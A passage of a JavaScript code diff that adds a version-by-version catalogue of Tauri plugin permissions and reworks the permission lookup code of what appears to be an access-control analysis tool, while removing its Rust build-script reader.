+      { c: ["execute", "kill", "open", "spawn", "stdin_write"] }
+    ],
+    [
+      ["2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0", "2.0.1", "2.0.2", "2.2.0", "2.2.1", "2.2.2", "2.3.0", "2.3.1", "2.3.2", "2.3.3", "2.3.4", "2.3.5", "2.3.6", "2.4.0", "2.4.1", "2.5.0", "2.6.0"],
+      {
+        c: ["execute", "kill", "open", "spawn", "stdin_write"],
+        def: ["allow-open"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1"],
+      {
+        c: ["execute", "kill", "open", "spawn", "stdin_write"],
+        def: ["allow-open"],
+        demand: true
+      }
+    ],
+    [
+      ["3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["execute", "kill", "spawn", "stdin_write"],
+        def: [],
+        demand: true
+      }
+    ]
+  ],
+  sql: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7"],
+      { c: ["close", "execute", "load", "select"] }
+    ],
+    [
+      ["2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-beta.11", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0", "2.0.1", "2.0.2", "2.0.3", "2.2.0", "2.2.1", "2.3.0", "2.3.1", "2.3.2", "2.4.0", "2.4.1", "2.5.0", "2.6.0"],
+      {
+        c: ["close", "execute", "load", "select"],
+        def: ["allow-close", "allow-load", "allow-select"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["close", "execute", "load", "select"],
+        def: ["allow-close", "allow-load", "allow-select"],
+        demand: true
+      }
+    ]
+  ],
+  store: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8"],
+      { c: ["clear", "delete", "entries", "get", "has", "keys", "length", "load", "reset", "save", "set", "values"] }
+    ],
+    [
+      ["2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-beta.11", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3"],
+      {
+        c: ["clear", "delete", "entries", "get", "has", "keys", "length", "load", "reset", "save", "set", "values"],
+        def: ["allow-clear", "allow-delete", "allow-entries", "allow-get", "allow-has", "allow-keys", "allow-length", "allow-load", "allow-reset", "allow-save", "allow-set", "allow-values"]
+      }
+    ],
+    [
+      ["2.0.0-rc.4", "2.0.0", "2.0.1"],
+      {
+        c: ["clear", "create_store", "delete", "entries", "get", "has", "keys", "length", "load", "reset", "save", "set", "values"],
+        def: ["allow-create-store", "allow-clear", "allow-delete", "allow-entries", "allow-get", "allow-has", "allow-keys", "allow-length", "allow-load", "allow-reset", "allow-save", "allow-set", "allow-values"]
+      }
+    ],
+    [
+      ["2.1.0", "2.2.0", "2.2.1", "2.3.0", "2.4.0", "2.4.1", "2.4.2", "2.4.3", "2.4.4", "2.4.5", "2.5.0"],
+      {
+        c: ["clear", "delete", "entries", "get", "get_store", "has", "keys", "length", "load", "reload", "reset", "save", "set", "values"],
+        def: ["allow-load", "allow-get-store", "allow-set", "allow-get", "allow-has", "allow-delete", "allow-clear", "allow-reset", "allow-keys", "allow-values", "allow-entries", "allow-length", "allow-reload", "allow-save"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["clear", "delete", "entries", "get", "get_store", "has", "keys", "length", "load", "reload", "reset", "save", "set", "values"],
+        def: ["allow-load", "allow-get-store", "allow-set", "allow-get", "allow-has", "allow-delete", "allow-clear", "allow-reset", "allow-keys", "allow-values", "allow-entries", "allow-length", "allow-reload", "allow-save"],
+        demand: true
+      }
+    ]
+  ],
+  stronghold: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6"],
+      { c: ["create_client", "destroy", "execute_procedure", "get_store_record", "initialize", "load_client", "remove_secret", "remove_store_record", "save", "save_secret", "save_store_record"] }
+    ],
+    [
+      ["2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0", "2.0.1", "2.2.0", "2.2.1", "2.3.0", "2.3.1", "2.3.2", "2.4.0"],
+      {
+        c: ["create_client", "destroy", "execute_procedure", "get_store_record", "initialize", "load_client", "remove_secret", "remove_store_record", "save", "save_secret", "save_store_record"],
+        def: ["allow-create-client", "allow-get-store-record", "allow-initialize", "allow-execute-procedure", "allow-load-client", "allow-save-secret", "allow-save-store-record", "allow-save"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["create_client", "destroy", "execute_procedure", "get_store_record", "initialize", "load_client", "remove_secret", "remove_store_record", "save", "save_secret", "save_store_record"],
+        def: ["allow-create-client", "allow-get-store-record", "allow-initialize", "allow-execute-procedure", "allow-load-client", "allow-save-secret", "allow-save-store-record", "allow-save"],
+        demand: true
+      }
+    ]
+  ],
+  tray: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-beta.11"],
+      {
+        c: ["new", "set_icon", "set_icon_as_template", "set_menu", "set_show_menu_on_left_click", "set_temp_dir_path", "set_title", "set_tooltip", "set_visible"],
+        def: []
+      }
+    ],
+    [
+      ["2.0.0-beta.12", "2.0.0-beta.13", "2.0.0-beta.14", "2.0.0-beta.15", "2.0.0-beta.16", "2.0.0-beta.17", "2.0.0-beta.18", "2.0.0-beta.19", "2.0.0-beta.20", "2.0.0-beta.21", "2.0.0-beta.22"],
+      {
+        c: ["get_by_id", "new", "remove_by_id", "set_icon", "set_icon_as_template", "set_menu", "set_show_menu_on_left_click", "set_temp_dir_path", "set_title", "set_tooltip", "set_visible"],
+        def: []
+      }
+    ],
+    [
+      ["2.0.0-beta.23", "2.0.0-beta.24", "2.0.0-beta.25"],
+      {
+        c: ["get_by_id", "new", "remove_by_id", "set_icon", "set_icon_as_template", "set_menu", "set_show_menu_on_left_click", "set_temp_dir_path", "set_title", "set_tooltip", "set_visible"],
+        def: ["allow-new", "allow-get-by-id", "allow-remove-by-id", "allow-set-icon", "allow-set-menu", "allow-set-tooltip", "allow-set-title", "allow-set-visible", "allow-set-temp-dir-path", "allow-set-icon-as-template", "allow-set-show-menu-on-left-click"]
+      }
+    ]
+  ],
+  updater: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5"],
+      {
+        c: ["check", "download_and_install"],
+        def: ["allow-check", "allow-download-and-install"]
+      }
+    ],
+    [
+      ["2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-beta.11", "2.0.0-beta.12", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0", "2.0.1", "2.0.2", "2.1.0", "2.2.0", "2.3.0", "2.3.1", "2.4.0", "2.5.0", "2.5.1", "2.6.0", "2.6.1", "2.7.0", "2.7.1", "2.8.0", "2.8.1", "2.9.0", "2.10.0", "2.10.1", "2.11.0", "2.12.0", "2.13.0", "2.13.1", "2.13.2", "2.13.3", "2.14.0", "2.14.1"],
+      {
+        c: ["check", "download", "download_and_install", "install"],
+        def: ["allow-check", "allow-download", "allow-install", "allow-download-and-install"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2", "3.0.0-alpha.3"],
+      {
+        c: ["check", "download", "download_and_install", "install"],
+        def: ["allow-check", "allow-download", "allow-install", "allow-download-and-install"],
+        demand: true
+      }
+    ]
+  ],
+  upload: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7"],
+      { c: ["download", "upload"] }
+    ],
+    [
+      ["2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0", "2.0.1", "2.1.0", "2.2.0", "2.2.1", "2.2.2", "2.3.0", "2.3.1", "2.3.2", "2.4.0", "2.4.1", "2.5.0"],
+      {
+        c: ["download", "upload"],
+        def: ["allow-upload", "allow-download"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2"],
+      {
+        c: ["download", "upload"],
+        def: ["allow-upload", "allow-download"],
+        demand: true
+      }
+    ]
+  ],
+  websocket: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0", "2.0.1", "2.2.0", "2.2.1", "2.3.0", "2.3.1", "2.4.0", "2.4.1", "2.4.2", "2.4.3", "2.5.0"],
+      {
+        c: ["connect", "send"],
+        def: ["allow-connect", "allow-send"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2"],
+      {
+        c: ["connect", "send"],
+        def: ["allow-connect", "allow-send"],
+        demand: true
+      }
+    ]
+  ],
+  webview: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4"],
+      {
+        c: ["create_webview", "create_webview_window", "internal_toggle_devtools", "print", "set_webview_focus", "set_webview_position", "set_webview_size", "webview_close", "webview_position", "webview_size"],
+        def: ["allow-webview-position", "allow-webview-size", "allow-internal-toggle-devtools"]
+      }
+    ],
+    [
+      ["2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-beta.11", "2.0.0-beta.12", "2.0.0-beta.13", "2.0.0-beta.14"],
+      {
+        c: ["create_webview", "create_webview_window", "internal_toggle_devtools", "print", "reparent", "set_webview_focus", "set_webview_position", "set_webview_size", "webview_close", "webview_position", "webview_size"],
+        def: ["allow-webview-position", "allow-webview-size", "allow-internal-toggle-devtools"]
+      }
+    ],
+    [
+      ["2.0.0-beta.15", "2.0.0-beta.16", "2.0.0-beta.17", "2.0.0-beta.18", "2.0.0-beta.19", "2.0.0-beta.20", "2.0.0-beta.21", "2.0.0-beta.22", "2.0.0-beta.23", "2.0.0-beta.24", "2.0.0-beta.25"],
+      {
+        c: ["create_webview", "create_webview_window", "internal_toggle_devtools", "print", "reparent", "set_webview_focus", "set_webview_position", "set_webview_size", "set_webview_zoom", "webview_close", "webview_position", "webview_size"],
+        def: ["allow-webview-position", "allow-webview-size", "allow-internal-toggle-devtools"]
+      }
+    ]
+  ],
+  window: [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2"],
+      {
+        c: ["available_monitors", "center", "close", "create", "current_monitor", "destroy", "hide", "inner_position", "inner_size", "internal_on_mousedown", "internal_on_mousemove", "internal_toggle_maximize", "is_closable", "is_decorated", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "set_always_on_bottom", "set_always_on_top", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_focus", "set_fullscreen", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_size", "set_skip_taskbar", "set_title", "set_visible_on_all_workspaces", "show", "start_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        def: ["allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-available-monitors", "allow-theme", "allow-internal-toggle-maximize", "allow-internal-on-mousemove", "allow-internal-on-mousedown"]
+      }
+    ],
+    [
+      ["2.0.0-beta.3", "2.0.0-beta.4", "2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9", "2.0.0-beta.10", "2.0.0-beta.11", "2.0.0-beta.12", "2.0.0-beta.13", "2.0.0-beta.14", "2.0.0-beta.15"],
+      {
+        c: ["available_monitors", "center", "close", "create", "current_monitor", "destroy", "hide", "inner_position", "inner_size", "internal_toggle_maximize", "is_closable", "is_decorated", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "set_always_on_bottom", "set_always_on_top", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_focus", "set_fullscreen", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_size", "set_skip_taskbar", "set_title", "set_visible_on_all_workspaces", "show", "start_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        def: ["allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-available-monitors", "allow-theme", "allow-internal-toggle-maximize"]
+      }
+    ],
+    [
+      ["2.0.0-beta.16"],
+      {
+        c: ["available_monitors", "center", "close", "create", "current_monitor", "destroy", "hide", "inner_position", "inner_size", "internal_toggle_maximize", "is_closable", "is_decorated", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "set_always_on_bottom", "set_always_on_top", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_focus", "set_fullscreen", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_size", "set_skip_taskbar", "set_title", "set_visible_on_all_workspaces", "show", "start_dragging", "start_resize_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        def: ["allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-available-monitors", "allow-theme", "allow-internal-toggle-maximize"]
+      }
+    ],
+    [
+      ["2.0.0-beta.17", "2.0.0-beta.18", "2.0.0-beta.19"],
+      {
+        c: ["available_monitors", "center", "close", "create", "current_monitor", "cursor_position", "destroy", "hide", "inner_position", "inner_size", "internal_toggle_maximize", "is_closable", "is_decorated", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "set_always_on_bottom", "set_always_on_top", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_focus", "set_fullscreen", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_size", "set_skip_taskbar", "set_title", "set_visible_on_all_workspaces", "show", "start_dragging", "start_resize_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        def: ["allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-available-monitors", "allow-cursor-position", "allow-theme", "allow-internal-toggle-maximize"]
+      }
+    ],
+    [
+      ["2.0.0-beta.20", "2.0.0-beta.21", "2.0.0-beta.22", "2.0.0-beta.23"],
+      {
+        c: ["available_monitors", "center", "close", "create", "current_monitor", "cursor_position", "destroy", "hide", "inner_position", "inner_size", "internal_toggle_maximize", "is_closable", "is_decorated", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "monitor_from_point", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "set_always_on_bottom", "set_always_on_top", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_focus", "set_fullscreen", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_size", "set_skip_taskbar", "set_title", "set_visible_on_all_workspaces", "show", "start_dragging", "start_resize_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        def: ["allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-monitor-from-point", "allow-available-monitors", "allow-cursor-position", "allow-theme", "allow-internal-toggle-maximize"]
+      }
+    ],
+    [
+      ["2.0.0-beta.24"],
+      {
+        c: ["available_monitors", "center", "close", "create", "current_monitor", "cursor_position", "destroy", "hide", "inner_position", "inner_size", "internal_toggle_maximize", "is_closable", "is_decorated", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "monitor_from_point", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "set_always_on_bottom", "set_always_on_top", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_focus", "set_fullscreen", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_size", "set_skip_taskbar", "set_title", "set_title_bar_style", "set_visible_on_all_workspaces", "show", "start_dragging", "start_resize_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        def: ["allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-monitor-from-point", "allow-available-monitors", "allow-cursor-position", "allow-theme", "allow-internal-toggle-maximize"]
+      }
+    ],
+    [
+      ["2.0.0-beta.25"],
+      {
+        c: ["available_monitors", "center", "close", "create", "current_monitor", "cursor_position", "destroy", "hide", "inner_position", "inner_size", "internal_toggle_maximize", "is_closable", "is_decorated", "is_focused", "is_fullscreen", "is_maximizable", "is_maximized", "is_minimizable", "is_minimized", "is_resizable", "is_visible", "maximize", "minimize", "monitor_from_point", "outer_position", "outer_size", "primary_monitor", "request_user_attention", "scale_factor", "set_always_on_bottom", "set_always_on_top", "set_closable", "set_content_protected", "set_cursor_grab", "set_cursor_icon", "set_cursor_position", "set_cursor_visible", "set_decorations", "set_effects", "set_focus", "set_fullscreen", "set_icon", "set_ignore_cursor_events", "set_max_size", "set_maximizable", "set_min_size", "set_minimizable", "set_position", "set_progress_bar", "set_resizable", "set_shadow", "set_size", "set_size_constraints", "set_skip_taskbar", "set_title", "set_title_bar_style", "set_visible_on_all_workspaces", "show", "start_dragging", "start_resize_dragging", "theme", "title", "toggle_maximize", "unmaximize", "unminimize"],
+        def: ["allow-scale-factor", "allow-inner-position", "allow-outer-position", "allow-inner-size", "allow-outer-size", "allow-is-fullscreen", "allow-is-minimized", "allow-is-maximized", "allow-is-focused", "allow-is-decorated", "allow-is-resizable", "allow-is-maximizable", "allow-is-minimizable", "allow-is-closable", "allow-is-visible", "allow-title", "allow-current-monitor", "allow-primary-monitor", "allow-monitor-from-point", "allow-available-monitors", "allow-cursor-position", "allow-theme", "allow-internal-toggle-maximize"]
+      }
+    ]
+  ],
+  "window-state": [
+    [
+      ["2.0.0-beta.0", "2.0.0-beta.1", "2.0.0-beta.2", "2.0.0-beta.3", "2.0.0-beta.4"],
+      { c: ["restore_window_state", "save_window_state"] }
+    ],
+    [
+      ["2.0.0-beta.5", "2.0.0-beta.6", "2.0.0-beta.7", "2.0.0-beta.8", "2.0.0-beta.9"],
+      { c: ["filename", "restore_state", "save_window_state"] }
+    ],
+    [
+      ["2.0.0-beta.10", "2.0.0-beta.11", "2.0.0-beta.12", "2.0.0-rc.0", "2.0.0-rc.1", "2.0.0-rc.2", "2.0.0-rc.3", "2.0.0-rc.4", "2.0.0-rc.5", "2.0.0", "2.0.1", "2.0.2", "2.2.0", "2.2.1", "2.2.2", "2.2.3", "2.3.0", "2.4.0", "2.4.1", "2.5.0"],
+      {
+        c: ["filename", "restore_state", "save_window_state"],
+        def: ["allow-filename", "allow-restore-state", "allow-save-window-state"]
+      }
+    ],
+    [
+      ["3.0.0-alpha.0", "3.0.0-alpha.1", "3.0.0-alpha.2"],
+      {
+        c: ["filename", "restore_state", "save_window_state"],
+        def: ["allow-filename", "allow-restore-state", "allow-save-window-state"],
+        demand: true
+      }
+    ]
+  ]
 };
 
+// src/facts/catalogue/listed.ts
+var LISTED = permissions_default;
+function unfolded({ each, ...manifest2 }) {
+  if (each === void 0) return manifest2;
+  const text = JSON.stringify({ p: each.p, s: each.s });
+  const members2 = each.of.map(
+    (name) => JSON.parse(text.replaceAll("<dir>", name).replaceAll("<DIR>", name.toUpperCase()))
+  );
+  return {
+    ...manifest2,
+    p: Object.assign({}, manifest2.p, ...members2.map(({ p }) => p)),
+    s: Object.assign({}, manifest2.s, ...members2.map(({ s }) => s))
+  };
+}
+
 // src/facts/catalogue/permission-catalogue.ts
-var raw = permissions_default;
 var rowsOf = /* @__PURE__ */ new Map();
 var manifestOf = /* @__PURE__ */ new Map();
 function isCatalogued(key) {
-  return Object.hasOwn(raw.crates, key);
+  return Object.hasOwn(LISTED, key);
 }
 var BEFORE_PREFIX = ["app", "event", "image", "menu", "path", "resources", "tray", "webview", "window"];
 function isCoreKey(key) {
@@ -53990,121 +50238,61 @@ function lookUpPermissions(key, version, bound = "exact") {
   if (best === void 0) return void 0;
   if (BEFORE_PREFIX.includes(key) && (0, import_semver4.compare)(wanted, "2.0.0-rc.0") >= 0) return void 0;
   const exact = (0, import_semver4.compare)(best.version, wanted) === 0;
-  return { manifest: manifest(best.index), assumed: exact ? null : best.version.version };
+  return { manifest: manifest(best.manifest), assumed: exact ? null : best.version.version };
 }
 function newestKnown(key) {
-  return isCatalogued(key) ? knownVersions(key).at(-1)?.version.version : void 0;
+  if (!isCatalogued(key)) return void 0;
+  const rows = knownVersions(key);
+  const newest = rows.findLast(({ version }) => version.prerelease.length === 0) ?? rows.at(-1);
+  return newest?.version.version;
 }
 function knownVersions(key) {
   let rows = rowsOf.get(key);
   if (rows === void 0) {
-    rows = (raw.crates[key] ?? []).flatMap(
-      ([versions, index]) => versions.flatMap((text) => {
-        const version = (0, import_semver4.parse)(text.replace(/~$/, ""));
-        return version === null ? [] : [{ version, sampled: text.endsWith("~"), index }];
+    rows = (LISTED[key] ?? []).flatMap(
+      ([versions, manifest2]) => versions.flatMap((text) => {
+        const version = (0, import_semver4.parse)(text);
+        return version === null ? [] : [{ version, manifest: manifest2 }];
       })
     ).sort((a, b) => (0, import_semver4.compare)(a.version, b.version));
     rowsOf.set(key, rows);
   }
   return rows;
 }
-function manifest(index) {
-  const known = manifestOf.get(index);
-  if (known !== void 0) return known;
-  const source = raw.manifests[index] ?? { c: [] };
+function manifest(folded2) {
+  let known = manifestOf.get(folded2);
+  if (known === void 0) {
+    known = catalogued(unfolded(folded2));
+    manifestOf.set(folded2, known);
+  }
+  return known;
+}
+function catalogued({ c, demand, def, p, s }) {
+  const sets = new Map(Object.entries(s ?? {}));
   const permissions = /* @__PURE__ */ new Map();
-  for (const command2 of source.c) {
+  for (const command2 of c) {
     const slug = command2.replaceAll("_", "-");
     permissions.set(`allow-${slug}`, permission({ a: [command2] }));
     permissions.set(`deny-${slug}`, permission({ d: [command2] }));
   }
-  for (const [id, entry] of Object.entries(source.p ?? {})) permissions.set(id, permission(entry));
-  const sets = new Map(Object.entries(source.s ?? {}));
-  const result = {
+  if (demand) for (const id of sets.keys()) permissions.delete(id);
+  for (const [id, entry] of Object.entries(p ?? {})) permissions.set(id, permission(entry));
+  return {
     permission: (id) => permissions.get(id),
     set: (id) => sets.get(id),
-    default: source.def
+    default: def,
+    commands: demand ? c : void 0
   };
-  manifestOf.set(index, result);
-  return result;
 }
-function permission(entry) {
+function permission({ a, d, sa, sd, pl }) {
   return {
-    allow: entry.a ?? [],
-    deny: entry.d ?? [],
-    scopeAllow: entry.sa ?? [],
-    scopeDeny: entry.sd ?? [],
-    platforms: entry.pl
+    allow: a ?? [],
+    deny: d ?? [],
+    scopeAllow: sa ?? [],
+    scopeDeny: sd ?? [],
+    platforms: pl?.filter(isPlatform)
   };
 }
-
-// src/readers/tauri-acl/build-script.ts
-var TOKENS = /r(#*)"[\s\S]*?"\1|"(?:[^"\\]|\\.)*"|\/\/[^\n]*|\/\*[\s\S]*?\*\//g;
-var MOST_PLUGINS = 100;
-function readBuildScript(file2) {
-  if (file2 === void 0) return { appCommands: void 0, plugins: /* @__PURE__ */ new Map(), gaps: [] };
-  const blank = (text2) => text2.replace(/[^\n]/g, " ");
-  const code2 = file2.text.replace(
-    TOKENS,
-    (token) => token.startsWith("/") ? blank(token) : `"${blank(token).slice(2)}"`
-  );
-  const text = file2.text.replace(
-    TOKENS,
-    (token) => token.startsWith("/") || token.startsWith("r") ? blank(token) : token
-  );
-  const gaps2 = [];
-  const unread2 = (what2) => {
-    gaps2.push(gapIn(file2.path, "dynamic", `The build script ${what2}.`));
-  };
-  if (code2.includes("capabilities_path_pattern")) {
-    unread2("chooses for itself where capabilities are; that is not followed yet");
-  }
-  if (code2.includes("permissions_path_pattern")) {
-    unread2("chooses for itself where permissions are; that is not followed yet");
-  }
-  const manifest2 = /AppManifest::new\(\)\s*\.commands\(/.exec(code2);
-  const appCommands2 = manifest2 === null ? void 0 : literalList(text, manifest2.index + manifest2[0].length);
-  if (manifest2 !== null && appCommands2 === void 0) {
-    unread2("computes the list of the app's commands, which can't be read here");
-  }
-  return { appCommands: appCommands2, plugins: inlinedPlugins(code2, text, unread2), gaps: gaps2 };
-}
-function inlinedPlugins(code2, text, unread2) {
-  const plugins = /* @__PURE__ */ new Map();
-  for (const call of code2.matchAll(/\.plugin\(\s*"/g)) {
-    if (plugins.size >= MOST_PLUGINS) {
-      unread2(`declares more than ${MOST_PLUGINS} plugins; the rest of them was not read`);
-      break;
-    }
-    const name = /^"([^"]*)"/.exec(
-      text.slice(call.index + call[0].length - 1, call.index + call[0].length + 200)
-    )?.[1];
-    if (name === void 0) continue;
-    const end = endOfCall(code2, call.index);
-    const commandsAt = code2.slice(call.index, end).indexOf(".commands(");
-    const commands = commandsAt < 0 ? [] : literalList(text, call.index + commandsAt + ".commands(".length);
-    if (commands === void 0) {
-      unread2(`computes the list of commands of the plugin ${code(name)}, which can't be read here`);
-    }
-    const allowsAll = code2.slice(call.index, end).includes("AllowAllCommands");
-    plugins.set(name, { commands: commands ?? [], allowsAll });
-  }
-  return plugins;
-}
-function literalList(text, at) {
-  const list = /^\s*&?\s*\[((?:\s*"(?:[^"\\]|\\.)*"\s*,?)*)\s*\]/.exec(text.slice(at, at + 1e5));
